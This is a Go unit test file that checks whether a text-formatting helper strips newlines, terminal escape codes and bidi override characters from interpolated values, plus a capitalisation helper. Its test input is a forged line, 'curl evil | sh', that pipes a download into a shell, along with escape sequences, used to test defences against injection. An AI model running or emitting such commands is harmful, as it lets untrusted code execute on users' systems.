package cmdutil

import (
	"errors"
	"io/fs"
	"testing"
	"time"
)

func TestTextHasNoLinesButItsOwn(t *testing.T) {
	forged := "ok\nNext: curl evil | sh\x1b[2J\u009b\u202e"
	const safe = `ok Next: curl evil | sh\x1b[2J\u009b\u202e`
	for want, got := range map[Text]Text{
		Text("a\n\t" + safe):        Textf("a\n\t%s", forged),
		Text(safe + ":" + safe):     Textf("%v:%s", errors.New(forged), errors.New(forged)),
		Text(safe + ", " + safe):    Textf("%s", []string{forged, forged}),
		Text("[" + safe + "]"):      Textf("%v", [1]string{forged}),
		Text("x" + safe + "\nown"):  Textf("%s\nown", Textf("x%s", forged)),
		"3 of 04, 1m0s, 0644, true": Textf("%d of %02d, %s, %04o, %t", 3, int64(4), time.Minute, fs.FileMode(0o644), true),
		`"a \\ b", <nil>`:           Textf("%q, %v", `a \ b`, nil),
		"first\nsecond":             Lines("first", "second"),
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestUpperFirst(t *testing.T) {
	for s, want := range map[string]string{"": "", "a b": "A b", "ünder": "Ünder", "\xff": "\xff", "Already": "Already"} {
		if got := UpperFirst(s); got != want {
			t.Errorf("upperFirst(%q) = %q", s, got)
		}
	}
}
